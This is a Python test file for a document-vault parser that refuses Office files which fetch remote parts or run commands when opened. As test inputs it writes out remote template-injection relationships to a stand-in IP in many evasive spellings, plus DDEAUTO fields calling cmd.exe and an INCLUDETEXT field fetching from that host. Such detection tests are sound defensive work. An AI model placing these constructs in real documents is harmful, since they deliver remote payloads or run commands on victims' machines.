"""What an office file would fetch or run when it is opened is found by parsing, in any spelling."""

import io
import zipfile

import pytest

from gongyou.vault.files import parser

BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ONE = (
    f'<Relationship Id="r" Type="{BASE}attachedTemplate" Target="http://203.0.113.9/t.dotm" '
    'TargetMode="External"/>'
)
SPELLINGS = {
    "usual": ONE,
    "single quotes": ONE.replace('"External"', "'External'"),
    "line break": ONE.replace("<Relationship ", "<Relationship\n"),
    "the word hyperlink in the address": ONE.replace("/t.dotm", "/hyperlink/t.dotm"),
    "a prefix": ONE.replace("<Relationship ", "<r:Relationship xmlns:r='x' "),
    "small letters": ONE.replace('"External"', '"external"'),
    "a reference for a letter": ONE.replace('"External"', '"&#69;xternal"'),
    "blanks around the sign": ONE.replace("TargetMode=", "TargetMode = "),
    "no mode": ONE.replace(' TargetMode="External"', ""),
    "a share of the net": ONE.replace("http://203.0.113.9/t.dotm", "\\\\203.0.113.9\\t.dotm"),
    "no scheme": ONE.replace("http://", "//"),
    "picture": ONE.replace("attachedTemplate", "image"),
    "frame": ONE.replace("attachedTemplate", "frame"),
    "inside a list": f'<Relationships xmlns="x">{ONE}</Relationships>',
}


@pytest.mark.parametrize("name", SPELLINGS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_part_from_elsewhere_is_refused(name, encoding):
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    with pytest.raises(parser.Refusal, match="macros"):
        parser.check_relations((head + SPELLINGS[name]).encode(encoding))


@pytest.mark.parametrize("kind", ["hyperlink", "externalLink"])
def test_a_link_that_waits_for_a_click_is_kept(kind):
    # can fail: what is not kept is refused, as the tests beside it say
    parser.check_relations(ONE.replace("attachedTemplate", kind).encode())


def test_a_document_type_is_refused():
    with pytest.raises(parser.Refusal, match="macros"):
        parser.check_relations(b'<!DOCTYPE r [<!ENTITY e "External">]>' + ONE.encode())


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
FIELDS = {
    "in one run": "<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>",
    "cut in two": "<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c</w:instrText>",
    "simple field": '<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>',
    "small letters": '<w:fldSimple w:instr="ddeauto c"/>',
    "fetched text": '<w:fldSimple w:instr="INCLUDETEXT http://203.0.113.9/x"/>',
}
CONTENT = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)


def word_file(part, inner):
    whole = "<w:document " + W + "><w:body><w:p><w:r>{}</w:r></w:p></w:body></w:document>"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT)
        archive.writestr("word/document.xml", whole.format("<w:t>x</w:t>"))
        archive.writestr(
            part, f"<w:document {W}><w:body><w:p><w:r>{inner}</w:r></w:p></w:body></w:document>"
        )
    return zipfile.ZipFile(io.BytesIO(file.getvalue()))


@pytest.mark.parametrize("part", ["word/header1.xml", "word/footnotes.xml", "word/comments.xml"])
@pytest.mark.parametrize("name", FIELDS)
def test_a_field_that_runs_a_command_is_found_in_every_part(name, part):
    archive = word_file(part, FIELDS[name])
    with pytest.raises(parser.Refusal, match="macros"):
        parser.office(archive, set(archive.namelist()))


def test_a_page_number_is_a_field_like_any_other():
    archive = word_file("word/header1.xml", '<w:fldSimple w:instr="PAGE"/>')
    assert parser.office(archive, set(archive.namelist())).endswith("wordprocessingml.document")
